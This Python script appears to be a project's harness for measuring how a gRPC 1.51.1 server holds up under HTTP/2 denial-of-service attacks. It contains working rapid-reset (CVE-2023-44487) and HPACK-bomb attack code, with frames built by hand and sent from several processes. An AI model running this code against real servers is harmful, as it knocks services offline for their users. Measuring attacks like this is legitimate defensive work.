#!/usr/bin/env python3
"""HTTP/2 attacks gRPC 1.51.1 without the project's patches has no defence
against (SECURITY.md), run against a running server: measurements, not tests
(the tests are h2_dos.py). They show what an attack
costs, bounded in time and in the server's memory.

  rapid_reset  HEADERS and at once RST_STREAM(CANCEL), stream after stream
               (CVE-2023-44487).
  hpack_bomb   each request adds one 4,000-byte header to the HPACK dynamic
               table and references it 4,000 times, one byte each: about
               8 KB on the wire, 16 MB of decoded metadata (CVE-2023-33953's
               class), far past --max_metadata_bytes.

Against a server at ADDRESS (process PID), ATTACKERS processes each open one
raw HTTP/2 connection (frames by hand, test/abuse/h2raw.py) that never ACKs
SETTINGS, and attack for SECONDS. Meanwhile one ordinary gRPC client
(grpcio) calls GetProductAvailability every 10 ms with a 500 ms deadline.
Prints the attack's rate, the legitimate calls that succeeded, and the
server's RSS growth; stops early past --max_rss_growth_mb.

  h2_attack.py ATTACK ADDRESS PID STUBS_DIR [--attackers=2] [--seconds=5]
"""
import argparse
import multiprocessing
import socket
import struct
import sys
import time

import hpack

import h2raw


def rapid_reset(host, port, seconds, counter):
    """HEADERS then RST_STREAM(CANCEL), stream after stream: one HPACK block
    encoded once (valid to repeat), never reading a frame and never ACKing
    SETTINGS, so gRPC 1.51.1 applies no stream cap."""
    block = hpack.Encoder().encode(h2raw.REQUEST_HEADERS)
    cancel = struct.pack(">I", 0x8)
    sock = h2raw.connect(host, port)
    stream_id, sent, end = 1, 0, time.monotonic() + seconds
    while time.monotonic() < end and stream_id < 2**31 - 256:
        burst = b"".join(
            h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block) +
            h2raw.frame(h2raw.RST_STREAM, 0, sid, cancel)
            for sid in range(stream_id, stream_id + 200, 2))
        stream_id += 200
        try:
            sock.sendall(burst)
        except OSError:
            break  # the server closed the connection
        sent += 100
        if not h2raw.drain(sock):
            break
    with counter.get_lock():
        counter.value += sent
    sock.close()


def hpack_bomb(host, port, seconds, counter):
    """One request per stream whose header block references a 4,000-byte
    dynamic-table entry 4,000 times. The request headers are never-indexed
    literals, so the block does not depend on the table and can be repeated."""
    encoder = hpack.Encoder()
    request = encoder.encode([(name, value, True) for name, value in h2raw.REQUEST_HEADERS])
    value = b"a" * 4000
    # Literal with incremental indexing, new name: the entry becomes index 62
    # (the newest), evicting the rest of a 4,096-byte table. Both strings
    # raw (not Huffman); 4,000 takes a 7-bit prefix plus continuation bytes.
    insert = b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + bytes([(4000 - 127) & 0x7f | 0x80,
                                                                  (4000 - 127) >> 7]) + value
    block = request + insert + b"\xbe" * 4000
    sock = h2raw.connect(host, port)
    stream_id, sent, end = 1, 0, time.monotonic() + seconds
    while time.monotonic() < end and stream_id < 2**31 - 2:
        try:
            sock.sendall(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS | h2raw.END_STREAM,
                                     stream_id, block))
        except OSError:
            break
        stream_id += 2
        sent += 1
        if not h2raw.drain(sock):
            break
    with counter.get_lock():
        counter.value += sent
    sock.close()


ATTACKS = {"rapid_reset": (rapid_reset, "resets"), "hpack_bomb": (hpack_bomb, "requests")}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("pid", type=int)
    parser.add_argument("stubs")
    parser.add_argument("--attackers", type=int, default=2)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--max_rss_growth_mb", type=float, default=3000)
    args = parser.parse_args()
    sys.path.insert(0, args.stubs)
    import grpc
    import inventory_pb2
    import inventory_pb2_grpc

    host, port = args.address.rsplit(":", 1)
    port = int(port)
    stub = inventory_pb2_grpc.InventoryServiceStub(grpc.insecure_channel(args.address))
    request = inventory_pb2.GetProductAvailabilityRequest(product_id="product123")
    stub.GetProductAvailability(request, timeout=5)  # warm: the server answers

    rss_before = h2raw.rss_mb(args.pid)
    counter = multiprocessing.Value("q", 0)
    procs = [multiprocessing.Process(target=ATTACKS[args.attack][0], args=(host, port, args.seconds, counter))
             for _ in range(args.attackers)]
    start = time.monotonic()
    for proc in procs:
        proc.start()
    ok = calls = 0
    rss_peak = rss_before
    while any(proc.is_alive() for proc in procs):
        calls += 1
        try:
            stub.GetProductAvailability(request, timeout=0.5)
            ok += 1
        except grpc.RpcError:
            pass
        rss_peak = max(rss_peak, h2raw.rss_mb(args.pid))
        if rss_peak - rss_before > args.max_rss_growth_mb:
            for proc in procs:
                proc.terminate()
            print(f"stopped early: RSS grew by more than {args.max_rss_growth_mb:.0f} MB")
            break
        time.sleep(0.01)
    for proc in procs:
        proc.join()
    elapsed = time.monotonic() - start
    print(f"{args.attack}: {args.attackers} attackers for {elapsed:.1f} s: "
          f"{counter.value / elapsed:,.0f} {ATTACKS[args.attack][1]}/s; legitimate calls OK {ok} of {calls} ({100.0 * ok / max(calls, 1):.0f}%); "
          f"server RSS {rss_before:.0f} -> peak {rss_peak:.0f} MB "
          f"(+{(rss_peak - rss_before) / elapsed:.0f} MB/s)")


if __name__ == "__main__":
    main()
